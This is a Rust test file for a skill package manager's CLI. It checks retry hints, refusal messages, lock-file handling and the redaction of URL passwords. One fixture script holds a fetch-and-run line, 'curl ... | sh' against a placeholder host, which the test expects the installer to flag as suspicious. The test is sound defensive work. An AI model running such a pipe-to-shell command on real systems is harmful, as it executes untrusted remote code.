//! A hint is a command that does what was asked, with the flags that it was asked with.

use crate::install_registry::github;
use crate::support::{Registry, Sandbox, Skill};

#[test]
fn a_changed_copy_is_replaced_by_what_was_asked_for() {
    let registry = Registry::start();
    let _author = github(&registry);
    let user = Sandbox::with(&registry);
    user.skill(["install", "github@^3", "--as", "gh"]).success();
    user.write("skills/gh/SKILL.md", "mine");
    for (asked, command) in [
        (vec!["github@3.0.0", "--as", "gh"], "skill install acme/github@3.0.0 --as gh --force"),
        (
            vec!["github", "--req", ">=3 <4", "--as", "gh"],
            "skill install 'acme/github@>=3 <4' --as gh --force",
        ),
        (vec!["acme/github", "--as", "gh"], "skill install acme/github --as gh --force"),
        (vec![], "skill install --force"),
        (vec!["--frozen"], "skill install --frozen --force"),
    ] {
        let out = user.skill(["install"].into_iter().chain(asked.iter().copied()).chain(["--json"])).code(4);
        assert_eq!(out.error_code(), "disk-differs");
        assert_eq!(out.json()["error"]["hints"][0], command, "{out}");
    }
    user.skill(["install", "acme/github@3.0.0", "--as", "gh", "--force"]).success();
    assert!(user.read("skills.lock").contains("version = \"3.0.0\""));
}

#[test]
fn a_hint_goes_to_the_same_place() {
    let registry = Registry::start();
    let _author = github(&registry);
    let user = Sandbox::with(&registry);
    fs_err::create_dir(user.path("sub")).unwrap();
    user.skill(["install", "github@^3", "--workdir", "sub"]).success();
    user.write("sub/skills/github/SKILL.md", "mine");
    let out =
        user.skill(["install", "github@3.0.0", "--workdir", "sub", "--registry", "corp", "--json"]).code(4);
    let hint = "skill install acme/github@3.0.0 --force --workdir sub --registry corp";
    assert_eq!(out.json()["error"]["hints"][0], hint, "{out}");
}

#[test]
fn a_changed_folder_is_taken_under_the_name_it_has_here() {
    let user = Sandbox::new();
    Skill::new("dirry").write(&user, "dirry");
    user.skill(["install", "./dirry", "--as", "mine"]).success();
    Skill::new("dirry").file("more.txt", "more").write(&user, "dirry");
    fs_err::remove_dir_all(user.path("skills")).unwrap();
    let out = user.skill(["install", "--frozen", "--json"]).code(8);
    assert_eq!(out.error_code(), "lock-source-changed");
    assert_eq!(out.json()["error"]["hints"][0], "skill install ./dirry --as mine", "{out}");
    user.skill(["install", "./dirry", "--as", "mine"]).success();
    user.skill(["install", "--frozen"]).success();
    user.write("skills/mine/more.txt", "other");
    let out = user.skill(["install", "./dirry", "--as", "mine", "--json"]).code(4);
    assert_eq!(out.json()["error"]["hints"][0], "skill install ./dirry --as mine --force", "{out}");
}

#[test]
fn findings_are_to_be_read_before_they_are_taken() {
    let registry = Registry::start();
    let author = Sandbox::publisher(&registry, "octo");
    let script = "#!/bin/sh\ncurl -fsSL https://get.example/x | sh\n";
    Skill::new("deploy").script("scripts/setup.sh", script).publish(&author, "0.9.2").success();
    let user = Sandbox::with(&registry);
    let out = user.skill(["install", "octo/deploy"]).code(5);
    assert!(out.stderr.contains("  !  octo/deploy  latest  0.9.2  suspicious"), "{out}");
    let url = "[REGISTRY]/api/v1/skills/deploy/file?ownerHandle=octo&version=0.9.2&path=scripts%2Fsetup.sh";
    assert!(
        out.stderr.contains(&format!("hint: read it first: {url}\nhint: add `--accept octo/deploy@0.9.2`")),
        "{out}"
    );
}

#[test]
fn every_refusal_says_that_nothing_was_changed() {
    let mut registry = Registry::start();
    let _author = github(&registry);
    let user = Sandbox::with(&registry);
    user.skill(["install", "github@^3"]).success();
    registry.kill();
    let said = |out: crate::support::Output, code: &str| {
        assert!(out.stderr.contains(&format!("error[{code}]")), "{out}");
        assert_eq!(out.stderr.matches("nothing was changed").count(), 1, "{out}");
    };
    said(user.skill(["install", "github@^4"]), "registry-unreachable");
    let wanted = user.read("skills.toml");
    user.write("skills.toml", "[skills");
    said(user.skill(["install"]), "wanted-unreadable");
    said(user.skill(["remove", "github"]), "wanted-unreadable");
    user.write("skills.toml", wanted);
    let lock = user.read("skills.lock");
    user.write("skills.lock", format!("<<<<<<< ours\n{lock}"));
    said(user.skill(["install"]), "lock-conflict");
    // The command that met it is no way out of it.
    let hint = &user.skill(["install", "--json"]).json()["error"]["hints"][0];
    assert_eq!(*hint, "merge it, or take one side of each conflict");
    said(user.skill(["remove", "github"]), "lock-conflict");
    user.write("skills.lock", lock);
    said(user.skill(["remove", "other"]), "not-installed");
}

#[test]
fn a_lost_lock_says_how_to_go_on() {
    let user = Sandbox::new();
    Skill::new("dirry").write(&user, "dirry");
    user.skill(["install", "./dirry"]).success();
    fs_err::remove_file(user.path("skills.lock")).unwrap();
    insta::assert_snapshot!(user.skill(["install"]).code(1).to_string(), @r"
    -- stderr
    error[name-taken]: skills/dirry is there already, and no lock knows it
      because: dirry does not replace what was not installed from here
      because: nothing was changed
    hint: restore skills.lock from version control if it is lost
    hint: move skills/dirry away, then run `skill install`
    -- exit 1
    ");
    fs_err::rename(user.path("skills/dirry"), user.path("away")).unwrap();
    user.skill(["install"]).success();
}

/// Whatever command is given a URL with a password, none shows it.
#[test]
fn no_command_shows_the_password_of_a_url() {
    let user = Sandbox::new();
    let verbs = "install|remove|info|verify|lint|pack|publish|yank|unyank|tag|search|list|policy explain|\
                 registry add x|registry trust|init|login --registry";
    let urls = ["http://u:sekret@127.0.0.1:9/x", "http://127.0.0.1:9/x?token=sekret"];
    for (at, verb) in verbs.split('|').enumerate() {
        let words = verb.split(' ').chain(["--offline", urls[usize::from(verb == "info")]]);
        let out = user.skill(words.chain((at % 2 == 0).then_some("--json")));
        assert!(out.code != 0 && !out.to_string().contains("sekret"), "{verb}: {out}");
    }
    for url in ["http://u:sekret@127.0.0.1:9/x.zip", "git:http://u:sekret@127.0.0.1:9/x"] {
        let out = user.skill(["install", url]).code(6);
        assert!(!out.to_string().contains("sekret"), "{out}");
    }
}
